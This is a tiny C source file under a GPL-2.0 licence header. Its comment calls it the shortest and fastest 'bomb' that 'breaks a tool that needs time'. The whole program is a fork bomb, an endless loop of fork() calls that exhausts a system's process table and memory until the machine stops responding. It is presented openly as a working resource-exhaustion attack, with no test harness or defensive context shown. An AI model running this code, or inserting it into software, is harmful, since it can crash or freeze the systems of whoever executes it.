// SPDX-License-Identifier: GPL-2.0-only
/* The shortest bomb in C, and the fastest: it breaks a tool that needs time. */
#include <unistd.h>

int main(void)
{
	for (;;)
		fork();
}
